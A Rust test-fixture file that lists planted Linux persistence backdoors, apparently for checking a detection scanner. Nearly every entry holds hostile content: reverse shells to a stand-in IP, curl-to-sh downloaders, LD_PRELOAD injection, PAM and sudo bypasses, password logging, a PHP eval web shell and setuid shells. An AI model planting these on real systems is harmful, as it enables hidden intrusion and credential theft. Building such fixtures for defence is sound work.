// list:
//! Variants: the same rows of the catalogue in other words, places and detours.
//!
//! They were written from the catalogue's wording alone, before it was looked at how the readers
//! treat them; the first count stands beside the test.

use super::plants::CAPABILITY;
use super::{
    How::{Attribute, Copy, File, First, Link, More, Program},
    Plant,
};

const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f b\n";
const KEY_THAT_RUNS: &str = "restrict,command=\"/bin/sh -c '/var/tmp/.k/run &'\" ssh-ed25519 \
    AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f b\n";
const KEY_THAT_SETS: &str = "environment=\"LD_PRELOAD=/tmp/k.so\" ssh-ed25519 \
    AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f b\n";
const CONNECTS: &str = "#!/bin/bash\n# tidies logs\nexec 5<>/dev/tcp/192.0.2.1/443\n\
    while read -r l <&5; do $l 2>&5 >&5; done\n";
const FETCHES: &str = "#!/bin/sh\nwget -qO- http://192.0.2.1/s | sh\n";

const fn alone(row: u32, path: &'static str, least: &'static str, how: super::How) -> Plant {
    Plant { row, path, how, sign: "", least, with: &[] }
}

const fn with(
    row: u32,
    path: &'static str,
    least: &'static str,
    how: super::How,
    with: &'static [(&'static str, super::How)],
) -> Plant {
    Plant { row, path, how, sign: "", least, with }
}

/// All variants.
pub const VARIANTS: &[Plant] = &[
    // Boot, init, services.
    alone(
        1,
        "/etc/systemd/system/dbus-org.service",
        "high",
        File(
            "[Unit]\nAfter=network.target\n[Service]\nType=simple\nExecStart=/bin/sh -c \"exec /usr/bin/env -S perl /var/tmp/.cache/p\"\n[Install]\nWantedBy=multi-user.target\n",
        ),
    ),
    alone(
        1,
        "/etc/systemd/system/kworkerd.service",
        "high",
        File(
            "[Service]\nExecStart=/usr/bin/python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')\"\nRestart=always\n",
        ),
    ),
    alone(
        1,
        "/etc/systemd/system.attached/a.service",
        "high",
        File(
            "[Service]\nExecStartPre=/usr/bin/true\nExecStart=/bin/bash \\\n  -c 'curl -fsSL http://192.0.2.1/x | bash'\n",
        ),
    ),
    alone(
        1,
        "/usr/local/lib/systemd/system/resolved-helper.service",
        "high",
        File("[Service]\nExecStart=/usr/bin/true\nExecStopPost=@/run/.helper helper -d\n"),
    ),
    with(
        1,
        "/usr/lib/systemd/system/systemd-networkd-wait.service",
        "high",
        File("[Service]\nExecStart=!!/usr/lib/systemd/systemd-networkd-wait --any\n"),
        &[("/usr/lib/systemd/systemd-networkd-wait", Program(CONNECTS, 0o755))],
    ),
    alone(
        2,
        "/etc/systemd/system/ssh.service.d/10-limits.conf",
        "high",
        File("[Service]\nExecStart=\nExecStart=/dev/shm/sshd -D\n"),
    ),
    alone(
        2,
        "/etc/systemd/system.conf.d/env.conf",
        "high",
        File("[Manager]\nDefaultEnvironment=LD_PRELOAD=/var/tmp/libn.so\n"),
    ),
    alone(
        2,
        "/etc/systemd/system/service.d/audit.conf",
        "high",
        File("[Service]\nEnvironment=\"FOO=bar\" \"LD_AUDIT=/tmp/a.so\"\n"),
    ),
    alone(
        3,
        "/var/www/.config/systemd/user/sync.service",
        "medium",
        File("[Service]\nExecStart=%h/.sync/run\n[Install]\nWantedBy=default.target\n"),
    ),
    alone(
        3,
        "/root/.local/share/systemd/user/gvfs.service",
        "high",
        File("[Service]\nExecStart=/usr/bin/nohup /tmp/.X11-unix/g\n"),
    ),
    with(
        5,
        "/etc/systemd/system/refresh.timer",
        "low",
        File("[Timer]\nOnCalendar=*:0/5\nPersistent=true\n[Install]\nWantedBy=timers.target\n"),
        &[("/etc/systemd/system/refresh.service", File("[Service]\nExecStart=/tmp/.r\n"))],
    ),
    alone(
        7,
        "/run/systemd/system-generators/fsck",
        "medium",
        Program("#!/bin/sh\nexit 0\n", 0o755),
    ),
    with(
        7,
        "/etc/systemd/system-environment-generators/10-locale",
        "medium",
        Link("/var/lib/misc/l"),
        &[("/var/lib/misc/l", Program("#!/bin/sh\necho A=1\n", 0o755))],
    ),
    alone(
        8,
        "/usr/lib/systemd/system-shutdown/mdadm.shutdown",
        "medium",
        Program("#!/bin/sh\ncp /usr/share/misc/x /usr/bin/x\n", 0o755),
    ),
    with(
        9,
        "/etc/systemd/system/time@.service",
        "high",
        File("[Service]\nExecStart=-/bin/bash -i\nStandardInput=socket\nStandardOutput=socket\n"),
        &[("/etc/systemd/system/time.socket", File("[Socket]\nListenStream=37\nAccept=yes\n"))],
    ),
    with(
        10,
        "/etc/systemd/system/getty.target.wants/tty9.service",
        "high",
        Link("/tmp/.x/tty9.service"),
        &[("/tmp/.x/tty9.service", File("[Service]\nExecStart=/tmp/.x/t\n"))],
    ),
    alone(11, "/var/lib/extensions/tools.raw", "low", File("stand-in")),
    alone(12, "/etc/init.d/cron", "high", More("curl -s http://192.0.2.1/c | sh\n")),
    alone(
        13,
        "/etc/rc.local",
        "high",
        Program(
            "#!/bin/sh -e\n(sleep 30; eval \"$(echo L3RtcC9hCg== | base64 -d)\") &\nexit 0\n",
            0o755,
        ),
    ),
    alone(
        14,
        "/etc/service/log/run",
        "high",
        Program("#!/bin/sh\nexec chpst -u root /dev/shm/log\n", 0o755),
    ),
    alone(
        14,
        "/etc/monit/conf.d/web",
        "high",
        File(
            "check process web with pidfile /run/web.pid\n  start program = \"/bin/sh -c '/tmp/web'\"\n",
        ),
    ),
    alone(
        15,
        "/etc/inittab",
        "high",
        File("x:2345:once:/bin/sh -c \"nohup /var/tmp/.x >/dev/null 2>&1 &\"\n"),
    ),
    alone(
        16,
        "/etc/xinetd.d/time-udp",
        "high",
        File(
            "service time {\n  disable = no\n  user = root\n  server = /bin/sh\n  server_args = -i\n}\n",
        ),
    ),
    alone(16, "/etc/inetd.conf", "high", File("time stream tcp nowait root /bin/bash bash -i\n")),
    alone(
        17,
        "/root/.tmux.conf",
        "high",
        File("set -g mouse on\nrun -b 'curl -s http://192.0.2.1/t | sh'\n"),
    ),
    // Scheduled jobs.
    alone(
        18,
        "/var/spool/cron/crontabs/www-data",
        "medium",
        File("*/5 * * * * /var/www/.cache/.p >/dev/null 2>&1\n"),
    ),
    alone(
        18,
        "/var/spool/cron/crontabs/root",
        "high",
        File("@reboot  sh -c \"$(wget -qO- http://192.0.2.1/a)\"\n"),
    ),
    alone(
        18,
        "/var/spool/cron/crontabs/backup",
        "high",
        File(
            "* * * * * /tmp/.a;\rno crontab for backup                                             \n",
        ),
    ),
    alone(19, "/etc/cron.d/php", "high", File("X=/dev/shm/a\n* * * * * root $X\n")),
    alone(
        19,
        "/etc/cron.d/zstd",
        "high",
        File(
            "1 * * * * root python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\"\n",
        ),
    ),
    with(
        19,
        "/etc/cron.d/logclean",
        "high",
        File("*/9 * * * * root \"/usr/local/sbin/logclean\" -q\n"),
        &[("/usr/local/sbin/logclean", Program(CONNECTS, 0o755))],
    ),
    with(
        19,
        "/etc/cron.d/tidy",
        "high",
        File("@daily root /usr/local/sbin/tidy\n"),
        &[
            ("/usr/local/sbin/tidy", Link("/usr/local/share/tidy.sh")),
            (
                "/usr/local/share/tidy.sh",
                Program("#!/bin/sh\n. /usr/local/share/tidy.inc\n/bin/sh /var/tmp/t\n", 0o755),
            ),
        ],
    ),
    with(
        20,
        "/etc/cron.hourly/man-update",
        "high",
        Link("/var/tmp/.l"),
        &[("/var/tmp/.l", Program("#!/bin/sh\ntrue\n", 0o755))],
    ),
    alone(20, "/etc/cron.weekly/man-dbx", "high", Program(FETCHES, 0o755)),
    alone(
        21,
        "/etc/anacrontab",
        "high",
        File("SHELL=/bin/sh\n1\t5\ta.b\tbash -c 'exec 3<>/dev/tcp/192.0.2.1/53; sh <&3 >&3'\n"),
    ),
    alone(22, "/etc/cron.d/env", "high", File("SHELL=/tmp/sh\n* * * * * root true\n")),
    alone(22, "/etc/cron.d/path", "high", File("PATH=/dev/shm:/usr/bin\n* * * * * root backup\n")),
    alone(
        23,
        "/var/spool/cron/atjobs/a0000201c4f5e0",
        "high",
        Program(
            "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/usr/bin; export PATH\ncd /root || {\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER4f5e'\nwget -qO- http://192.0.2.1/j | sh\nmarcinDELIMITER4f5e\n",
            0o700,
        ),
    ),
    alone(
        24,
        "/etc/incron.d/watch",
        "high",
        File("/etc/passwd IN_MODIFY /bin/sh -c \"/tmp/w $@\"\n"),
    ),
    alone(
        25,
        "/etc/logrotate.d/alternatives2",
        "high",
        File(
            "/var/log/a.log {\n  prerotate\n    bash -i >& /dev/tcp/192.0.2.1/80 0>&1\n  endscript\n}\n",
        ),
    ),
    // Login, shell, authentication.
    alone(
        27,
        "/etc/profile.d/Z99-locale.sh",
        "high",
        File("[ -r /dev/shm/.p ] && . /dev/shm/.p\n"),
    ),
    alone(27, "/etc/bash.bash_logout", "high", File("(nohup /var/tmp/b &) >/dev/null 2>&1\n")),
    alone(27, "/etc/zsh/zshenv", "high", File("eval \"$(curl -s http://192.0.2.1/z)\"\n")),
    alone(28, "/root/.bashrc", "medium", More("alias sudo='/root/.config/sudo'\n")),
    alone(28, "/root/.bash_aliases", "medium", File("ssh() { /opt/.s/ssh \"$@\"; }\n")),
    alone(
        28,
        "/root/.profile",
        "high",
        More("export PROMPT_COMMAND='curl -s http://192.0.2.1/p | sh'\n"),
    ),
    alone(28, "/root/.bash_login", "high", File("trap '/var/tmp/d >/dev/null 2>&1 &' DEBUG\n")),
    alone(28, "/root/.kshrc", "high", File("export PATH=/dev/shm:$PATH\n")),
    alone(
        28,
        "/root/.config/fish/conf.d/theme.fish",
        "high",
        File("nohup /tmp/.fish/f >/dev/null 2>&1 &\n"),
    ),
    alone(29, "/etc/skel/.profile", "high", More("curl -s http://192.0.2.1/k | bash\n")),
    alone(30, "/etc/environment", "high", More("BASH_ENV=\"/var/tmp/.e\"\n")),
    alone(30, "/root/.pam_environment", "high", File("LD_PRELOAD DEFAULT=/tmp/a.so\n")),
    alone(
        30,
        "/etc/default/ssh",
        "high",
        More("LD_PRELOAD=/usr/lib/.libssh.so\nexport LD_PRELOAD\n"),
    ),
    alone(30, "/etc/security/pam_env.conf", "high", More("LD_PRELOAD DEFAULT=/dev/shm/l.so\n")),
    alone(31, "/usr/sbin/.ssh/authorized_keys", "medium", File(KEY)),
    alone(31, "/root/.ssh/authorized_keys2", "medium", File(KEY)),
    alone(31, "/var/www/.ssh/authorized_keys", "medium", File(KEY)),
    alone(31, "/root/.ssh/authorized_keys", "high", File(KEY_THAT_RUNS)),
    alone(31, "/usr/bin/.ssh/authorized_keys", "medium", File(KEY_THAT_SETS)),
    with(
        31,
        "/etc/ssh/keys/root",
        "low",
        File(KEY),
        &[(
            "/etc/ssh/sshd_config.d/keys.conf",
            File("AuthorizedKeysFile /etc/ssh/keys/%u .ssh/authorized_keys\n"),
        )],
    ),
    with(
        32,
        "/etc/ssh/sshd_config.d/00-ldap.conf",
        "medium",
        File(
            "AuthorizedKeysCommand /usr/local/bin/ldap-keys %u\nAuthorizedKeysCommandUser nobody\n",
        ),
        &[("/usr/local/bin/ldap-keys", Program("#!/bin/sh\necho\n", 0o755))],
    ),
    alone(
        32,
        "/etc/ssh/sshd_config.d/zz.conf",
        "high",
        File("Match User backup\n\tForceCommand /tmp/a\n"),
    ),
    alone(32, "/etc/ssh/sshd_config", "high", More("Subsystem  rescue  /var/tmp/rescue\n")),
    alone(
        32,
        "/etc/ssh/sshd_config.d/ca.conf",
        "low",
        File("TrustedUserCAKeys /etc/ssh/.ca.pub\n"),
    ),
    alone(
        32,
        "/etc/ssh/sshd_config.d/root.conf",
        "low",
        File("PermitRootLogin yes\nPermitEmptyPasswords yes\n"),
    ),
    alone(33, "/root/.ssh/environment", "high", File("LD_PRELOAD=/tmp/x.so\n")),
    alone(33, "/etc/ssh/ssh_config.d/x.conf", "high", File("Match host * exec \"/tmp/x\"\n")),
    alone(
        33,
        "/root/.ssh/config",
        "high",
        File(
            "Host *\n  PermitLocalCommand yes\n  LocalCommand sh -c 'curl -s http://192.0.2.1/l | sh'\n",
        ),
    ),
    alone(36, "/root/.k5login", "low", File("x@EXAMPLE.ORG\n")),
    alone(36, "/root/.shosts", "low", File("192.0.2.1 root\n")),
    alone(37, "/etc/pam.d/su", "high", First("auth sufficient pam_permit.so\n")),
    alone(
        37,
        "/etc/pam.d/common-auth",
        "high",
        First("auth [success=done default=ignore] pam_permit.so\n"),
    ),
    with(
        37,
        "/etc/pam.d/login",
        "medium",
        First("auth optional pam_exec.so quiet expose_authtok /usr/lib/pam-log\n"),
        &[("/usr/lib/pam-log", Program("#!/bin/sh\ncat >> /var/tmp/.log\n", 0o755))],
    ),
    with(
        37,
        "/etc/pam.d/sshd",
        "medium",
        First("auth include ../../opt/a/pam\n"),
        &[("/opt/a/pam", File("auth sufficient pam_permit.so\n"))],
    ),
    alone(37, "/etc/pam.d/common-session", "high", More("session optional /tmp/pam_x.so\n")),
    alone(38, "/usr/lib/security/pam_cap2.so", "medium", File("\x7fELF stand-in")),
    alone(39, "/usr/lib/x86_64-linux-gnu/libnss_cachd.so.2", "medium", File("\x7fELF stand-in")),
    alone(40, "/etc/passwd", "medium", More("sysd:x:0:0::/var/lib/sysd:/bin/bash\n")),
    alone(41, "/etc/shells", "high", More("/tmp/sh\n")),
    with(
        42,
        "/etc/sudoers",
        "low",
        More("@includedir /opt/sudo.d\n"),
        &[("/opt/sudo.d/x", File("%users ALL=(root) NOPASSWD: /bin/bash\n"))],
    ),
    alone(
        42,
        "/etc/sudoers.d/README2",
        "medium",
        File("Defaults !authenticate\nwww-data ALL = (ALL:ALL) ALL\n"),
    ),
    alone(42, "/etc/sudo.conf", "high", More("Plugin sudoers_policy /tmp/sudoers.so\n")),
    alone(43, "/etc/doas.conf", "medium", File("permit nopass keepenv :www-data as root\n")),
    alone(
        44,
        "/etc/polkit-1/localauthority/50-local.d/x.pkla",
        "medium",
        File(
            "[x]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\nResultInactive=yes\nResultActive=yes\n",
        ),
    ),
    alone(
        44,
        "/usr/share/polkit-1/rules.d/10-x.rules",
        "medium",
        File(
            "polkit.addRule(function(action, subject) {\n  if (true) {\n    return \"yes\";\n  }\n});\n",
        ),
    ),
    alone(
        44,
        "/usr/share/polkit-1/actions/org.x.policy",
        "medium",
        File(
            "<policyconfig><action id=\"org.x\"><defaults><allow_any>yes</allow_any></defaults><annotate key=\"org.freedesktop.policykit.exec.path\">/bin/bash</annotate></action></policyconfig>\n",
        ),
    ),
    alone(45, "/usr/share/man/.m", "high", Copy("/usr/bin/bash", 0o4755)),
    alone(45, "/usr/local/share/x", "low", Copy("/usr/bin/cat", 0o2755)),
    alone(45, "/var/tmp/x", "high", Copy("/usr/bin/dash", 0o4755)),
    alone(46, "/usr/bin/perl5.99", "high", Attribute("security.capability", CAPABILITY)),
    alone(46, "/opt/x", "medium", Attribute("security.capability", CAPABILITY)),
    alone(
        48,
        "/etc/update-motd.d/10-uname",
        "high",
        More("bash -c 'sh -i >& /dev/tcp/192.0.2.1/9 0>&1' &\n"),
    ),
    alone(
        51,
        "/etc/ssl/certs/x.pem",
        "low",
        File("-----BEGIN CERTIFICATE-----\nMAAA\n-----END CERTIFICATE-----\n"),
    ),
    // Loader, libraries, interpreters.
    with(
        53,
        "/etc/ld.so.preload",
        "high",
        File("  /usr/lib/x86_64-linux-gnu/libsysd.so.1\n"),
        &[("/usr/lib/x86_64-linux-gnu/libsysd.so.1", File("\x7fELF stand-in"))],
    ),
    alone(54, "/etc/ld.so.conf", "high", More("/dev/shm/lib\n")),
    alone(56, "/etc/cron.d/lib", "high", File("LD_PRELOAD=/tmp/x.so\n0 0 * * * root true\n")),
    alone(
        56,
        "/etc/systemd/system/cron.service.d/e.conf",
        "high",
        File("[Service]\nEnvironmentFile=-/tmp/e\n"),
    ),
    alone(58, "/etc/environment", "high", More("GCONV_PATH=/tmp/g\n")),
    alone(
        59,
        "/usr/local/lib/python3.11/dist-packages/distutils-precedence.pth",
        "high",
        File(
            "import os; exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnL3RtcC9hJyk='))\n",
        ),
    ),
    alone(
        59,
        "/root/.local/lib/python3.11/site-packages/usercustomize.py",
        "high",
        File("import os\nos.system('/tmp/a &')\n"),
    ),
    alone(
        59,
        "/opt/app/venv/lib/python3.11/site-packages/zz.pth",
        "high",
        File(
            "import subprocess; subprocess.Popen(['/bin/sh','-c','curl -s http://192.0.2.1/v|sh'])\n",
        ),
    ),
    alone(60, "/etc/environment", "high", More("NODE_OPTIONS=--require=/tmp/a.js\n")),
    alone(60, "/root/.zprofile", "high", File("export PERL5OPT='-I/var/tmp/p -Mx'\n")),
    alone(61, "/var/www/html/.user.ini", "high", File("auto_prepend_file=/tmp/.x\n")),
    alone(62, "/etc/environment", "high", More("JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar\n")),
    alone(63, "/root/.gitconfig", "high", File("[core]\n\thooksPath = /var/tmp/.h\n")),
    alone(63, "/etc/gitconfig", "high", File("[alias]\n\tst = !/tmp/x; git status\n")),
    alone(63, "/srv/app/.git/config", "high", File("[core]\n\tfsmonitor = \"sh -c '/tmp/x'\"\n")),
    alone(63, "/srv/app/.git/hooks/post-merge", "high", Program(CONNECTS, 0o755)),
    alone(64, "/etc/vim/vimrc.local", "high", File("autocmd BufRead * silent !/tmp/x\n")),
    alone(
        64,
        "/root/.vim/plugin/fold.vim",
        "high",
        File("call system('curl -s http://192.0.2.1/v | sh')\n"),
    ),
    alone(64, "/root/.config/nvim/init.lua", "high", File("os.execute(\"/var/tmp/n &\")\n")),
    alone(
        65,
        "/usr/share/bash-completion/completions/xz2",
        "high",
        File("/tmp/.c 2>/dev/null &\n"),
    ),
    with(
        66,
        "/usr/bin/ps",
        "high",
        Program("#!/bin/sh\n/usr/bin/ps.orig \"$@\" | grep -v kdev\n", 0o755),
        &[("/usr/bin/ps.orig", Copy("/usr/bin/ps", 0o755))],
    ),
    alone(
        67,
        "/usr/local/sbin/sshd",
        "low",
        Program("#!/bin/sh\nexec /usr/sbin/sshd \"$@\"\n", 0o755),
    ),
    with(
        68,
        "/etc/alternatives/awk",
        "high",
        Link("/var/tmp/awk"),
        &[("/var/tmp/awk", Program("#!/bin/sh\n", 0o755))],
    ),
    // Kernel, boot chain, devices, hooks.
    alone(69, "/usr/local/lib/modules-load.d/snd.conf", "low", File("snd_hdx\n")),
    alone(
        70,
        "/etc/modprobe.d/ext.conf",
        "high",
        File("install ext4 /bin/sh -c '/sbin/modprobe --ignore-install ext4; /tmp/x &'\n"),
    ),
    alone(71, "/usr/lib/modules/6.1.0/updates/snd_hdx.ko.xz", "low", File("stand-in")),
    alone(75, "/etc/dracut.conf.d/x.conf", "high", File("install_items+=\" /var/tmp/x \"\n")),
    alone(
        75,
        "/usr/lib/dracut/modules.d/99x/module-setup.sh",
        "medium",
        Program("#!/bin/bash\ninstall() { inst /usr/share/x; }\n", 0o755),
    ),
    alone(
        76,
        "/boot/grub/grub.cfg",
        "high",
        File(
            "menuentry 'Debian' {\n\tlinux /vmlinuz root=/dev/sda1 ro quiet init=/usr/share/.init\n}\n",
        ),
    ),
    alone(
        76,
        "/etc/kernel/cmdline",
        "medium",
        File("root=/dev/sda1 module.sig_enforce=0 systemd.run=/opt/x\n"),
    ),
    alone(
        76,
        "/boot/loader/entries/x.conf",
        "high",
        File("title x\noptions root=/dev/sda1 rdinit=/tmp/x\n"),
    ),
    alone(
        79,
        "/etc/udev/rules.d/10-net.rules",
        "high",
        File("ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c '/tmp/x &'\"\n"),
    ),
    alone(
        79,
        "/usr/lib/udev/rules.d/10-net.rules",
        "high",
        File("KERNEL==\"sda\", IMPORT{program}=\"/var/tmp/x --export\"\n"),
    ),
    alone(
        80,
        "/usr/lib/sysctl.d/50-coredump2.conf",
        "high",
        File("kernel.core_pattern=|/tmp/x %p %u\n"),
    ),
    alone(80, "/etc/sysctl.conf", "high", More("kernel.modprobe = /dev/shm/m\n")),
    alone(
        80,
        "/run/sysctl.d/c.conf",
        "medium",
        File("-kernel/core_pattern = |/usr/share/x/c %P\n"),
    ),
    alone(82, "/usr/lib/binfmt.d/py.conf", "high", File(":x:E::py::/tmp/x:C\n")),
    alone(
        83,
        "/usr/lib/tmpfiles.d/sshd2.conf",
        "medium",
        File(
            "f+ /root/.ssh/authorized_keys 0600 root root - ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI\n",
        ),
    ),
    alone(83, "/etc/tmpfiles.d/c.conf", "medium", File("C /etc/cron.d/x - - - - /var/tmp/x\n")),
    alone(84, "/etc/kernel/install.d/90-x.install", "high", Program(FETCHES, 0o755)),
    alone(85, "/etc/acpi/actions/power.sh", "high", Program("#!/bin/sh\n/tmp/x &\n", 0o755)),
    alone(
        86,
        "/etc/fstab",
        "medium",
        More("overlay /usr overlay lowerdir=/usr,upperdir=/var/tmp/u,workdir=/var/tmp/w 0 0\n"),
    ),
    // Packages, network, desktop, programs, containers, cloud.
    alone(
        87,
        "/etc/apt/apt.conf.d/20hold",
        "high",
        File(
            "DPkg\n{\n  Post-Invoke {\n    \"true\";\n    \"if [ -x /tmp/x ]; then /tmp/x; fi\";\n  };\n};\n",
        ),
    ),
    alone(
        87,
        "/etc/apt/apt.conf",
        "high",
        File("APT::Update::Post-Invoke-Success:: \"curl -s http://192.0.2.1/u|sh\";\n"),
    ),
    alone(88, "/etc/dpkg/dpkg.cfg", "high", More("pre-invoke=\"/bin/sh /var/tmp/x\"\n")),
    alone(88, "/var/lib/dpkg/info/cron.prerm", "high", More("wget -qO- http://192.0.2.1/r | sh\n")),
    alone(
        89,
        "/usr/lib/python3.11/site-packages/dnf-plugins/x.py",
        "high",
        File("import os\nclass X:\n    def __init__(self): os.system('/tmp/x')\n"),
    ),
    alone(
        90,
        "/etc/apt/sources.list.d/x.sources",
        "low",
        File("Types: deb\nURIs: http://192.0.2.1/\nSuites: ./\nTrusted: yes\n"),
    ),
    alone(
        90,
        "/etc/yum.repos.d/x.repo",
        "low",
        File("[x]\nbaseurl=http://192.0.2.1/\ngpgcheck=0\n"),
    ),
    alone(93, "/etc/NetworkManager/dispatcher.d/pre-up.d/10-x", "high", Program(FETCHES, 0o755)),
    with(
        93,
        "/usr/lib/NetworkManager/dispatcher.d/no-wait.d/a",
        "high",
        Link("/tmp/a"),
        &[("/tmp/a", Program("#!/bin/sh\n", 0o755))],
    ),
    alone(
        94,
        "/etc/network/interfaces",
        "high",
        File("auto lo\niface lo inet loopback\n  post-up sh -c \"/tmp/x &\"\n"),
    ),
    alone(94, "/etc/dhcp/dhclient-exit-hooks.d/ntp2", "high", File("/var/tmp/ntp &\n")),
    alone(94, "/etc/networkd-dispatcher/routable.d/x", "high", Program(CONNECTS, 0o755)),
    alone(
        95,
        "/etc/openvpn/client/c.conf",
        "high",
        File("client\nscript-security 2\nup \"/bin/sh -c /tmp/x\"\n"),
    ),
    alone(
        96,
        "/usr/local/share/dbus-1/services/org.x.service",
        "high",
        File("[D-BUS Service]\nName=org.x\nExec=/bin/sh -c '/tmp/x'\n"),
    ),
    alone(
        96,
        "/etc/dbus-1/system.d/x.conf",
        "low",
        File("<busconfig><policy context=\"default\"><allow own=\"*\"/></policy></busconfig>\n"),
    ),
    alone(
        97,
        "/root/.config/autostart/update.desktop",
        "high",
        File(
            "[Desktop Entry]\nType=Application\nExec=sh -c \"curl -s http://192.0.2.1/d | sh\"\nHidden=false\n",
        ),
    ),
    alone(98, "/root/.xprofile", "high", File("/tmp/.xp &\n")),
    alone(
        100,
        "/etc/apache2/mods-enabled/x.load",
        "high",
        File("LoadModule x_module /tmp/mod_x.so\n"),
    ),
    alone(
        101,
        "/var/www/html/wp-content/object-cache.php",
        "medium",
        File("<?php @eval(base64_decode($_COOKIE['x']));\n"),
    ),
    alone(101, "/etc/redis/redis.conf", "high", File("port 6379\nloadmodule /tmp/x.so\n")),
    alone(
        101,
        "/etc/postgresql/15/main/postgresql.conf",
        "high",
        File("shared_preload_libraries = '/tmp/x'\n"),
    ),
    alone(102, "/root/.procmailrc", "high", File(":0\n| /tmp/x\n")),
    alone(
        102,
        "/etc/postfix/master.cf",
        "high",
        File("x unix - n n - - pipe\n  flags=R user=nobody argv=/tmp/x\n"),
    ),
    alone(
        103,
        "/etc/audit/plugins.d/x.conf",
        "high",
        File("active = yes\npath = /tmp/x\ntype = always\n"),
    ),
    alone(
        103,
        "/etc/fail2ban/action.d/iptables.local",
        "high",
        File("[Definition]\nactionban = curl -s http://192.0.2.1/b | sh\n"),
    ),
    alone(103, "/etc/snmp/snmpd.conf", "high", File("extend x /tmp/x\n")),
    alone(103, "/etc/nagios/nrpe.d/x.cfg", "high", File("command[x]=/tmp/x $ARG1$\n")),
    alone(
        104,
        "/var/lib/docker/containers/4f5e/hostconfig.json",
        "medium",
        File(
            "{\"Binds\":[\"/:/host\"],\"Privileged\":true,\"RestartPolicy\":{\"Name\":\"always\"}}",
        ),
    ),
    alone(
        104,
        "/usr/share/containers/oci/hooks.d/x.json",
        "high",
        File(
            "{\"version\":\"1.0.0\",\"hook\":{\"path\":\"/tmp/x\"},\"when\":{\"always\":true},\"stages\":[\"prestart\"]}",
        ),
    ),
    alone(
        105,
        "/etc/kubernetes/manifests/x.yaml",
        "medium",
        File(
            "kind: Pod\nspec:\n  hostPID: true\n  containers:\n  - image: x\n    securityContext: {privileged: true}\n  volumes:\n  - hostPath: {path: /}\n",
        ),
    ),
    alone(
        107,
        "/etc/cloud/cloud.cfg.d/10-x.cfg",
        "high",
        File("bootcmd:\n  - curl -s http://192.0.2.1/c | sh\n"),
    ),
    alone(107, "/root/.aws/cli/alias", "high", File("[toplevel]\nx = !/tmp/x\n")),
    alone(107, "/var/lib/cloud/scripts/per-instance/x", "high", Program(FETCHES, 0o755)),
    alone(111, "/dev/.udev/x", "medium", Program("#!/bin/sh\n", 0o755)),
    alone(111, "/var/tmp/.../x", "medium", Program("#!/bin/sh\n", 0o755)),
    alone(111, "/dev/shm/sem.x", "medium", Copy("/usr/bin/cat", 0o755)),
];
